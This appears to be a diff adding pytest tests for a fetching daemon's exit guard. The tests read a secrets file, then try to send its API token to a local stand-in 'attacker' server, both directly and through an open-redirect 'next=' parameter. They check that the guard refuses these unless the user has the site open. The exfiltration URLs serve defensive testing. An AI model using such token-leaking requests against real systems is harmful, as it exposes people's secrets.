@@ -263,3 +263,56 @@ async def test_no_benchmark_url_is_refused_after_reading_every_benchmark_page() 
     for url in urls:
         await guard.check(url)  # raises exit_refused on a false positive
     assert guard.counters["refused"] == 0 and guard.counters["checked"] == len(urls)
+
+
+async def test_an_allowed_host_cannot_pass_the_data_on(tmp_path: Path, site: Server, attacker: Server) -> None:
+    """An allowed host with an open redirect (``?next=https://attacker/…``) is only as good as the hosts it names."""
+    (tmp_path / "secrets.md").write_text(f"# Keys\n\nThe payment API key is {TOKEN} and it must stay private.\n")
+    settings = daemon_settings(tmp_path, allow_private_hosts=True, exit_allow_hosts=("localhost",))
+    async with RunningDaemon(settings, warm=False) as d:
+        await fetch(d, str(tmp_path / "secrets.md"))
+        refused(await fetch(d, f"{site.url}/go?next=" + quote(f"{attacker.url}/c?k={TOKEN}", safe="")))
+        assert site.hits == [] and attacker.hits == []
+
+
+def _chromium() -> str:
+    from trawl.chromium import find_chromium
+    from trawl.settings import env_value
+
+    path = find_chromium(None)
+    if path is None:
+        if env_value("CI").lower() == "true":
+            pytest.fail("Chromium is required under CI=true (apt-get install -y chromium)")
+        pytest.skip("Chromium not found")
+    return path
+
+
+@pytest.mark.timeout(120)
+async def test_a_site_open_in_the_users_browser_may_receive_it(tmp_path: Path, site: Server,
+                                                               attacker: Server) -> None:
+    """The real extension in Chromium says which sites the user has open; only those (and allowed hosts) may
+    receive data from earlier reads, and not to pass it on to a site that is not open."""
+    from tests.e2e.conftest import close_linked, e2e_settings, launch_linked
+
+    chromium = _chromium()
+    (tmp_path / "secrets.md").write_text(f"# Keys\n\nThe payment API key is {TOKEN} and it must stay private.\n")
+    settings = e2e_settings(tmp_path, file_roots=(str(tmp_path),), allow_private_hosts=True)
+    stack = await launch_linked(tmp_path, chromium, settings=settings)
+    try:
+        assert await stack.hub.wait_attached(15), stack.hub.describe()
+        d = stack.daemon
+        assert (await fetch(d, str(tmp_path / "secrets.md")))["ok"]
+        refused(await fetch(d, f"{attacker.url}/collect?k={TOKEN}"))  # the site is not open: refused
+        assert attacker.hits == []
+
+        await stack.open_tab(f"{attacker.url}/home")  # the user opens that site in their browser
+        assert attacker.hits == ["/home"]
+        # open, but asked to pass it on to a site that is not open: refused
+        refused(await fetch(d, f"{attacker.url}/go?next=" + quote(f"{site.url}/c?k={TOKEN}", safe="")))
+        body = await fetch(d, f"{attacker.url}/collect?k={TOKEN}")
+        assert body["ok"] is True, body
+        assert f"/collect?k={TOKEN}" in attacker.hits
+        ev = (await status(d))["exits"]["events"][0]
+        assert ev["action"] == "let through: the site is open in your browser" and ev["host"] == "127.0.0.1"
+    finally:
+        await close_linked(stack)
